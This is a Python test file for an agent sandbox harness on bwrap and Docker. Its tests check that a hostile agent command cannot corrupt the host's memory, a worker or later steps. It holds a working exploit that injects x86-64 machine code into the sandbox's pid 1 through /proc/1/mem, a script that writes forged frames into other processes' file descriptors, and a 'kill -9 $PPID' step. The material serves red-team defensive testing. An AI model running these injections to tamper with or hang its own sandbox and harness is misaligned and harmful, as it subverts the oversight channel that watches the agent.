"""The helper's channel in a live workspace, attacked from the agent's own command.

On bwrap the sandbox's pid 1 (bwrap's init) runs as the sandbox uid, is dumpable, and holds
the helper's pipes: the command can write code into it through /proc/1/mem. On Docker the
exec's shell holds them and its /proc fds open for writing. Either way, what the command
makes a holder do may spoil its own step, never our memory, a worker or the next step
(red team, this session).
"""

from __future__ import annotations

import platform
import threading
from pathlib import Path

import pytest

from tests.verifiers import test_live_workspace as live_workspace
from tests.verifiers.test_live_workspace import live, snapshot_names
from verifiers.live import run_bash
from verifiers.sandbox import Sandbox

pytestmark = pytest.mark.database_independent


# The live-workspace suite's fixtures: a sandbox per backend, an episode folder.
sandbox = live_workspace.sandbox
folder = live_workspace.folder


# Run by the agent's command: makes the sandbox's pid 1 (asleep in wait4) run a few
# instructions. "frames": write the payload file to its fd 1 (the helper's stdout), then go
# back to wait4 as if nothing happened. "hang": clear its parent-death signal and pause
# forever, keeping the helper's pipes open.
INJECT_PID1 = r"""
import os, struct, sys, time
mode, payload = sys.argv[1], open(sys.argv[2], "rb").read() if len(sys.argv) > 2 else b""
fields = open("/proc/1/syscall").read().split()
assert fields[0] == "61", fields  # wait4
pc = int(fields[-1], 16)  # just past its syscall instruction
mem = os.open("/proc/1/mem", os.O_RDWR)
def back(at):  # jmp rel32 to the syscall instruction (pc - 2)
    return b"\xe9" + struct.pack("<i", pc - 2 - (at + 5))
if mode == "frames":
    code = b"\x48\x81\xec\x00\x01\x00\x00\x57\x56\x52"  # sub rsp,256; push rdi,rsi,rdx
    code += b"\xb8\x01\x00\x00\x00\xbf\x01\x00\x00\x00"  # mov eax,1 (write); mov edi,1
    lea = len(code)
    code += b"\x48\x8d\x35\x00\x00\x00\x00"  # lea rsi,[rip+payload]
    code += b"\xba" + struct.pack("<I", len(payload)) + b"\x0f\x05"  # mov edx,len; syscall
    code += b"\x5a\x5e\x5f\x48\x81\xc4\x00\x01\x00\x00"  # pop rdx,rsi,rdi; add rsp,256
    code += b"\xb8\x3d\x00\x00\x00"  # mov eax,61
    code += back(pc + len(code))
    code = code[: lea + 3] + struct.pack("<i", len(code) - (lea + 7)) + code[lea + 7 :]
    code += payload
else:
    code = b"\xb8\x9d\x00\x00\x00\xbf\x01\x00\x00\x00\x31\xf6\x0f\x05"  # prctl(1, 0)
    code += b"\xb8\x22\x00\x00\x00\x0f\x05\xeb\xf7"  # pause(); loop
saved = os.pread(mem, len(code), pc)
os.pwrite(mem, code, pc)
if os.fork() == 0:  # an orphan re-parented to pid 1 wakes it from wait4
    if os.fork() == 0:
        time.sleep(0.1)
        os._exit(0)
    os._exit(0)
os.wait()
time.sleep(0.5)
if mode == "frames":
    os.pwrite(mem, saved, pc)
print("injected", mode)
"""
# The same frames written straight into every fd of another process the command can open
# (the Docker exec's shell).
WRITE_FDS = r"""
import glob, sys
payload = open(sys.argv[1], "rb").read()
for path in glob.glob("/proc/[0-9]*/fd/1"):
    try:
        with open(path, "wb", buffering=0) as fd:
            fd.write(payload)
    except OSError:
        pass
"""
PATCH_FRAMES = (
    "import sys\nchunk = b'SBF1P' + (1 << 20).to_bytes(4, 'big') + b'x' * (1 << 20)\n"
    "open(sys.argv[1], 'wb').write(chunk * 4)\n"
)

needs_x86 = pytest.mark.skipif(
    platform.machine() != "x86_64", reason="the pid 1 injection is x86-64 machine code"
)


def _forge_command(sandbox: Sandbox, mode: str) -> str:
    if sandbox.name == "bwrap":
        deliver = f"python3 /tmp/inject.py {mode} /tmp/frames.bin"
    else:
        deliver = "python3 /tmp/write_fds.py /tmp/frames.bin"
    return (
        f"cat > /tmp/inject.py <<'EOF'\n{INJECT_PID1}\nEOF\n"
        f"cat > /tmp/write_fds.py <<'EOF'\n{WRITE_FDS}\nEOF\n"
        f"cat > /tmp/mk.py <<'EOF'\n{PATCH_FRAMES}\nEOF\n"
        "python3 /tmp/mk.py /tmp/frames.bin\n"
        "echo real > work/real.txt\n"
        f"{deliver}\n"
    )


@needs_x86
def test_forged_patch_frames_spoil_only_the_step(
    sandbox: Sandbox, folder: Path, tmp_path: Path
) -> None:
    # Patch frames on a bash step: without the check they were all kept in our memory (a GB
    # a second on bwrap, for as long as the command runs) and the step passed with its change.
    ws = live(sandbox, folder, tmp_path)

    forged = run_bash(sandbox, ws, _forge_command(sandbox, "frames"), 60)

    assert not forged.ok and not forged.changed, forged
    assert "work/real.txt" not in snapshot_names(ws)
    after = run_bash(sandbox, ws, "echo next", 30)
    assert after.ok and after.stdout == "next\n", after


@needs_x86
@pytest.mark.parametrize("sandbox", ["bwrap"], indirect=True)
@pytest.mark.parametrize("then", ["exits", "kills the helper"])
def test_a_hijacked_pid_1_cannot_hold_a_step_open(
    sandbox: Sandbox, folder: Path, tmp_path: Path, then: str
) -> None:
    # pid 1 clears its parent-death signal and never exits, holding the helper's pipes:
    # the worker waited on them forever, and the workspace's next step with it. The host
    # stops reading at the helper's result (so a command that just exits has its ordinary
    # step), and a kill reaches every process of the slot (so a helper killed before it
    # reported ends the step at the sandbox's time limit).
    ws = live(sandbox, folder, tmp_path)
    command = _forge_command(sandbox, "hang") + ("kill -9 $PPID\n" if then != "exits" else "")
    outcomes: list[object] = []
    step = threading.Thread(
        target=lambda: outcomes.append(run_bash(sandbox, ws, command, 3)), daemon=True
    )

    step.start()
    step.join(120)

    assert not step.is_alive() and outcomes, "the step never returned"
    assert outcomes[0].ok == (then == "exits"), outcomes[0]
    after = run_bash(sandbox, ws, "echo next", 30)
    assert after.ok and after.stdout == "next\n", after
